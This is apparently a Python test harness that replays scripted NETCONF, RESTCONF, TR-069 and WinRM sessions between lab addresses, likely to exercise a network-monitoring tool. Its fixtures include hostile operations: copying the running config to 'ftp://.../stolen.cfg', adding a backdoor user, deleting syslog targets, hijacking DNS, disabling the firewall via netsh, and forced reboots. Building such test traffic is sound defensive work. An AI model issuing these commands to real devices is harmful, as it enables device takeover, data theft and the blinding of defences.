"""Scripted peers where Debian has no daemon: NETCONF over clear TCP, RESTCONF and web logins, an ACS and
its CPE. `peers.py SCENE serve|talk FILE`; what the serving side did it writes into FILE, one line each."""
import base64, http.client, http.server, json, socket, sys, threading, time

NS = 'xmlns="urn:ietf:params:xml:ns:netconf:base:1.0"'
HELLO = f'<?xml version="1.0"?><hello {NS}><capabilities><capability>urn:ietf:params:netconf:base:1.0</capability>' \
        '<capability>urn:ietf:params:netconf:base:1.1</capability></capabilities></hello>'
NETCONF = [
    ('<get-config><source><running/></source></get-config>', 'ok'),
    ('<edit-config><target><candidate/></target><config><system xmlns="urn:x"><login><user><name>eve</name><password>Hidden-1</password></user></login></system></config></edit-config>', 'ok'),
    ('<edit-config><target><running/></target><config><interfaces xmlns="urn:ietf:params:xml:ns:yang:ietf-interfaces"><interface><name>ge-0/0/1</name><enabled>false</enabled></interface></interfaces></config></edit-config>', 'ok'),
    ('<edit-config><target><running/></target><config><syslog xmlns="urn:x"><server operation="delete"><name>10.1.1.1</name></server></syslog></config></edit-config>', 'error'),
    ('<commit/>', 'ok'),
    ('<copy-config><target><startup/></target><source><running/></source></copy-config>', 'ok'),
    ('<copy-config><target><url>ftp://10.9.1.1/stolen.cfg</url></target><source><running/></source></copy-config>', 'ok'),
    ('<delete-config><target><startup/></target></delete-config>', 'error'),
    ('<kill-session><session-id>4</session-id></kill-session>', 'ok'),
    ('<close-session/>', 'ok'),
]
ERROR = '<rpc-error><error-type>application</error-type><error-tag>access-denied</error-tag><error-severity>error</error-severity></rpc-error>'


def frame(text, chunked, size=7):
    if not chunked:
        return text.encode() + b']]>]]>'
    data = text.encode()
    parts = [data[i:i + size * 9] for i in range(0, len(data), size * 9)]
    return b''.join(b'\n#%d\n' % len(p) + p for p in parts) + b'\n##\n'


def netconf_serve(note):
    s = socket.socket()
    s.setsockopt(1, 2, 1)
    s.bind(('10.9.0.1', 8300))
    s.listen(2)
    while True:
        c, _ = s.accept()
        c.sendall(frame(HELLO, False))
        data, n, end = b'', 0, b']]>]]>'
        while True:
            more = c.recv(65536)
            if not more:
                break
            data += more
            while end in data:
                message, _, data = data.partition(end)
                if end == b']]>]]>':
                    end = b'\n##\n'
                    continue
                what, answer = NETCONF[n]
                n += 1
                body = '<ok/>' if answer == 'ok' else ERROR
                if 'get-config' in what:
                    body = '<data><system><host-name>nc9</host-name></system></data>'
                c.sendall(frame(f'<rpc-reply {NS} message-id="{100 + n}">{body}</rpc-reply>', True))
                note(what)


def netconf_talk(_):
    s = socket.create_connection(('10.9.0.1', 8300), 5, source_address=('10.9.1.1', 0))
    time.sleep(0.2)
    s.sendall(frame(HELLO, False))
    for n, (what, _) in enumerate(NETCONF):
        data = frame(f'<rpc {NS} message-id="{101 + n}">{what}</rpc>', True)
        half = len(data) // 2
        s.sendall(data[:half])
        time.sleep(0.03)
        s.sendall(data[half:])
        time.sleep(0.15)
        s.recv(65536)


WEB = [  # method, path, headers, body, status of the answer
    ('GET', '/restconf/data/ietf-system:system', {}, None, 200),
    ('PUT', '/restconf/data/ietf-interfaces:interfaces/interface=eth0', {'Content-Type': 'application/yang-data+json'}, '{"a":1}', 204),
    ('PATCH', '/restconf/data/ietf-system:system/authentication', {'Content-Type': 'application/yang-data+json'}, '{"user":[{"name":"eve","password":"Hidden-2"}]}', 204),
    ('DELETE', '/restconf/data/ietf-syslog:syslog/actions/remote', {}, None, 403),
    ('POST', '/restconf/operations/ietf-system:system-restart', {}, '', 204),
    ('POST', '/restconf/data/ietf-access-control-list:acls', {'Transfer-Encoding': 'chunked'}, '{"acl":[]}', 201),
]


class Web(http.server.BaseHTTPRequestHandler):
    protocol_version = 'HTTP/1.1'

    def answer(self):
        length = self.headers.get('Content-Length')
        body = self.rfile.read(int(length)) if length else b''
        if self.headers.get('Transfer-Encoding') == 'chunked':
            while True:
                size = int(self.rfile.readline(), 16)
                body += self.rfile.read(size)
                self.rfile.readline()
                if not size:
                    break
        status = next((w[4] for w in WEB if (w[0], w[1]) == (self.command, self.path)), 404)
        given = self.headers.get('Authorization')
        if given and given.startswith('Basic'):
            user, _, secret = base64.b64decode(given.split()[1]).decode().partition(':')
            if secret != 'Right-1':
                status = 401
            self.server.note(f'basic {user} {status}')
        elif self.path == '/login' and self.command == 'POST':
            good = b'Right-1' in body
            status = 302 if good else 401
            self.server.note(f'form {status}')
        else:
            self.server.note(f'{self.command} {self.path} {status}')
        self.send_response(status)
        if status == 302:
            self.send_header('Location', '/home')
            self.send_header('Set-Cookie', 'session=1')
        if status == 401:
            self.send_header('WWW-Authenticate', 'Basic realm="level_15_access"')
        out = b'{"ietf-system:system":{}}' if status == 200 else b''
        self.send_header('Content-Length', str(len(out)))
        self.end_headers()
        self.wfile.write(out)

    do_GET = do_PUT = do_PATCH = do_POST = do_DELETE = answer

    def log_message(self, *_):
        pass


def web_serve(note):
    server = http.server.ThreadingHTTPServer(('10.9.0.2', 8080), Web)
    server.note = note
    server.serve_forever()


def web_talk(_):
    c = http.client.HTTPConnection('10.9.0.2', 8080, timeout=5, source_address=('10.9.1.2', 0))
    auth = lambda secret: {'Authorization': 'Basic ' + base64.b64encode(f'netops:{secret}'.encode()).decode()}
    steps = [(m, p, {**h, **auth('Right-1')}, b) for m, p, h, b, _ in WEB] + [
        ('GET', '/restconf/data', auth('Wrong-1'), None),
        ('POST', '/login', {'Content-Type': 'application/x-www-form-urlencoded'}, 'username=admin&password=Right-1'),
        ('POST', '/login', {'Content-Type': 'application/x-www-form-urlencoded'}, 'username=mallory&password=Wrong-2')]
    for method, path, headers, body in steps:
        chunked = headers.get('Transfer-Encoding') == 'chunked'
        c.request(method, path, body=iter([body.encode()]) if chunked else body, headers=headers, encode_chunked=chunked)
        c.getresponse().read()
        time.sleep(0.05)


SOAP = '<?xml version="1.0"?><soap:Envelope xmlns:soap="http://schemas.xmlsoap.org/soap/envelope/" xmlns:cwmp="urn:dslforum-org:cwmp-1-2">' \
       '<soap:Header><cwmp:ID soap:mustUnderstand="1">{id}</cwmp:ID></soap:Header><soap:Body>{body}</soap:Body></soap:Envelope>'


def value(name, text, kind='string'):
    return f'<ParameterValueStruct><Name>{name}</Name><Value xsi:type="xsd:{kind}">{text}</Value></ParameterValueStruct>'


def cwmp_sets(*pairs):
    return '<cwmp:SetParameterValues><ParameterList>' + ''.join(value(*p) for p in pairs) + '</ParameterList><ParameterKey>k</ParameterKey></cwmp:SetParameterValues>'


CWMP = [  # what the ACS asks, how the CPE answers
    ('<cwmp:GetParameterValues><ParameterNames><string>Device.DeviceInfo.</string></ParameterNames></cwmp:GetParameterValues>', 'GetParameterValuesResponse'),
    (cwmp_sets(('Device.Users.User.1.Password', 'Hidden-3'), ('Device.DNS.Client.Server.1.DNSServer', '203.0.113.9')), 'SetParameterValuesResponse'),
    (cwmp_sets(('Device.ManagementServer.URL', 'http://10.9.1.9/')), 'Fault'),
    ('<cwmp:AddObject><ObjectName>Device.NAT.PortMapping.</ObjectName><ParameterKey/></cwmp:AddObject>', 'AddObjectResponse'),
    ('<cwmp:Download><CommandKey>d</CommandKey><FileType>1 Firmware Upgrade Image</FileType><URL>http://10.9.1.3/fw9.img</URL><Username>u</Username><Password>Hidden-4</Password><FileSize>0</FileSize></cwmp:Download>', 'DownloadResponse'),
    ('<cwmp:Upload><CommandKey>u</CommandKey><FileType>1 Vendor Configuration File</FileType><URL>http://10.9.1.3/cpe9.cfg</URL></cwmp:Upload>', 'UploadResponse'),
    ('<cwmp:Reboot><CommandKey>r</CommandKey></cwmp:Reboot>', 'RebootResponse'),
    ('<cwmp:FactoryReset/>', 'FactoryResetResponse'),
]


class Acs(http.server.BaseHTTPRequestHandler):
    protocol_version = 'HTTP/1.1'
    turn = 0

    def do_POST(self):
        body = self.rfile.read(int(self.headers.get('Content-Length') or 0))
        if b'Inform>' in body:
            out = SOAP.format(id='1', body='<cwmp:InformResponse><MaxEnvelopes>1</MaxEnvelopes></cwmp:InformResponse>')
        elif Acs.turn < len(CWMP):
            out = SOAP.format(id=str(100 + Acs.turn), body=CWMP[Acs.turn][0])
            self.server.note(CWMP[Acs.turn][0])
            Acs.turn += 1
        else:
            out = ''
        self.send_response(200 if out else 204)
        self.send_header('Content-Type', 'text/xml')
        self.send_header('Content-Length', str(len(out)))
        self.end_headers()
        self.wfile.write(out.encode())

    def log_message(self, *_):
        pass


def cwmp_serve(note):  # the ACS is the manager: it serves on the near side
    server = http.server.ThreadingHTTPServer(('10.9.1.3', 7547), Acs)
    server.note = note
    server.serve_forever()


def cwmp_talk(_):
    c = http.client.HTTPConnection('10.9.1.3', 7547, timeout=5, source_address=('10.9.0.3', 0))
    inform = '<cwmp:Inform><DeviceId><Manufacturer>ACME</Manufacturer><OUI>001122</OUI><ProductClass>HG9</ProductClass><SerialNumber>S1</SerialNumber></DeviceId>' \
             '<Event><EventStruct><EventCode>1 BOOT</EventCode><CommandKey/></EventStruct></Event><MaxEnvelopes>1</MaxEnvelopes><CurrentTime>2026-11-22T10:00:00Z</CurrentTime><RetryCount>0</RetryCount>' \
             '<ParameterList>' + value('Device.DeviceInfo.SoftwareVersion', 'V1.0') + '</ParameterList></cwmp:Inform>'
    bodies = [SOAP.format(id='1', body=inform), '']
    for n, (_, answer) in enumerate(CWMP):
        inner = '<soap:Fault><faultcode>Client</faultcode><faultstring>CWMP fault</faultstring><detail><cwmp:Fault><FaultCode>9001</FaultCode><FaultString>denied</FaultString></cwmp:Fault></detail></soap:Fault>' \
            if answer == 'Fault' else f'<cwmp:{answer}><Status>0</Status></cwmp:{answer}>'
        bodies.append(SOAP.format(id=str(100 + n), body=inner))
    for body in bodies:
        c.request('POST', '/acs', body=body, headers={'Content-Type': 'text/xml', 'SOAPAction': ''})
        c.getresponse().read()
        time.sleep(0.05)


SHELL = 'http://schemas.microsoft.com/wbem/wsman/1/windows/shell'
WSMAN = {  # the last word of what is asked: the body of the answer
    'Create': '<w:Selector xmlns:w="w" Name="ShellId">{id}</w:Selector>',
    'Command': f'<r:CommandResponse xmlns:r="{SHELL}"><r:CommandId>{{id}}</r:CommandId></r:CommandResponse>',
    'Receive': f'<r:ReceiveResponse xmlns:r="{SHELL}"><r:CommandState CommandId="{{id}}" State="{SHELL}/CommandState/Done">'
               '<r:ExitCode>0</r:ExitCode></r:CommandState></r:ReceiveResponse>'}


class Wsman(http.server.BaseHTTPRequestHandler):
    protocol_version = 'HTTP/1.1'

    def do_POST(self):
        body = self.rfile.read(int(self.headers.get('Content-Length') or 0)).decode()
        good = base64.b64decode(self.headers.get('Authorization', ' ').split()[1]).endswith(b':Right-1')
        action = body.split('Action', 1)[1].split('>', 1)[1].split('<', 1)[0]
        last = action.rsplit('/', 1)[1]
        self.server.note([last, good, body.split('Arguments>')[1].split('<')[0] if 'Arguments>' in body else ''])
        about = body.split('MessageID>', 1)[1].split('<', 1)[0]
        out = f'<s:Envelope xmlns:s="s" xmlns:a="a"><s:Header><a:RelatesTo>{about}</a:RelatesTo></s:Header><s:Body>{WSMAN.get(last, "").format(id="11111111-2222-3333-4444-555555555555")}</s:Body></s:Envelope>' if good else ''
        self.send_response(200 if good else 401)
        if not good:
            self.send_header('WWW-Authenticate', 'Basic realm="WSMAN"')
        self.send_header('Content-Type', 'application/soap+xml;charset=UTF-8')
        self.send_header('Content-Length', str(len(out)))
        self.end_headers()
        self.wfile.write(out.encode())

    def log_message(self, *_):
        pass


def wsman_serve(note):
    server = http.server.ThreadingHTTPServer(('10.9.0.4', 5985), Wsman)
    server.note = note
    server.serve_forever()


def wsman_talk(_):
    import winrm
    for secret in ('Wrong-1', 'Right-1'):
        session = winrm.Session('http://10.9.0.4:5985/wsman', auth=('netops', secret), transport='basic')
        try:
            session.run_cmd('net', ['user', 'eve', 'Hidden-1', '/add'])
            session.run_cmd('netsh', ['advfirewall', 'set', 'allprofiles', 'state', 'off'])
            session.run_cmd('ipconfig', ['/all'])
            session.run_ps('Restart-Computer -Force')
        except winrm.exceptions.InvalidCredentialsError:
            pass


if __name__ == '__main__':
    lock, file = threading.Lock(), open(sys.argv[3], 'a') if len(sys.argv) > 3 else None

    def note(text):
        with lock:
            file.write(json.dumps(text) + '\n')
            file.flush()
    globals()[f'{sys.argv[1]}_{sys.argv[2]}'](note)
